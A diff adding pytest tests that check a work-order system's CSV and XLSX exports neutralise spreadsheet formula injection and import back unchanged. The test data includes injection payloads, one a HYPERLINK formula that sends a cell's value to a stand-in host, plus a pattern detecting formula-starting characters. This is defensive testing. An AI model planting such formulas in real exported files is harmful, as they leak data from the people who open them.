@@ -134,3 +134,87 @@ def test_bad_arguments_are_refused(runner, app, args, message):
     result = runner.invoke(args=args)
     assert result.exit_code == 1
     assert result.stderr.strip().splitlines()[0].startswith(message)
+
+
+# --- formulas (docs/RULES.md § Export): no cell may start a formula in Excel or WPS ---------
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"点此")', "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def formula_orders(app):
+    unit = make_department("县住建局")
+    orders = []
+    for i, text in enumerate(FORMULAS):
+        order = make_order(
+            received_at=T(2020, 1, 5, 9, i), content=text, caller_name=text[:50], caller_phone="+8613812345678"
+        )
+        workflow.dispatch(order, unit, at=T(2020, 1, 5, 10))
+        workflow.sign(order, at=T(2020, 1, 5, 11))
+        workflow.reply(order, text, at=T(2020, 1, 6, 9))
+        orders.append(order)
+    return orders
+
+
+def _no_formula(cells):
+    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert starts == [], starts
+
+
+def test_export_orders_neutralises_formulas_and_imports_back_unchanged(runner, tmp_path, formula_orders):
+    path = tmp_path / "q1.csv"
+    assert runner.invoke(args=["export-orders", "2020Q1", "--output", str(path)]).exit_code == 0
+    _, rows = read_export(path)
+    cells = [c for row in rows[1:] for c in row]
+    _no_formula(cells)
+    content = [r[HEADERS.index("诉求内容")] for r in rows[1:]]
+    assert content == ["'" + f for f in FORMULAS]
+    assert {r[HEADERS.index("来电号码")] for r in rows[1:]} == {"'+8613812345678"}
+
+    # Our own export imports back: the importer removes the one quote the export added.
+    for model in reversed(ALL_MODELS):
+        model.delete().execute()
+    result = runner.invoke(args=["import-orders", str(path)])
+    assert result.exit_code == 0, result.stderr
+    from models import WorkOrder
+
+    back = list(WorkOrder.select().order_by(WorkOrder.received_at))
+    assert [o.content for o in back] == [f.strip() for f in FORMULAS]  # the import strips cells, as always
+    assert [o.reply for o in back] == [o.content for o in back] == [o.caller_name for o in back]
+    assert {o.caller_phone for o in back} == {"+8613812345678"}
+    again = tmp_path / "again.csv"
+    assert runner.invoke(args=["export-orders", "2020Q1", "--output", str(again)]).exit_code == 0
+    _, rows_again = read_export(again)
+    assert [r[HEADERS.index("诉求内容")] for r in rows_again[1:]] == ["'" + f.strip() for f in FORMULAS]
+
+
+@pytest.mark.parametrize("role", ["operator", "leader"])
+def test_the_order_lists_csv_and_xlsx_exports_neutralise_formulas(client, login_as, formula_orders, role):
+    import io
+
+    import openpyxl
+
+    login_as(role)
+    text = client.get("/admin/orders/export/csv/").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert len(rows) == len(FORMULAS) + 1
+    _no_formula([c for row in rows[1:] for c in row])
+    header = rows[0]
+    # A leader's cells are masked first (the caller's name inside the content too), then neutralised.
+    expected = sorted("'" + f for f in FORMULAS) if role == "operator" else None
+    content = sorted(r[header.index("诉求内容")] for r in rows[1:])
+    assert content == expected if expected else all(c.startswith("'") for c in content)
+
+    response = client.get("/admin/orders/export/xlsx/")
+    assert response.status_code == 200
+    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert (
+        "filename=orders_" in response.headers["Content-Disposition"]
+        and ".xlsx" in response.headers["Content-Disposition"]
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    values = [[c.value for c in row] for row in sheet.iter_rows()]
+    assert values[0] == header
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    _no_formula([str(c) for row in values[1:] for c in row if c is not None])
+    assert sorted(r[header.index("诉求内容")] for r in values[1:]) == content
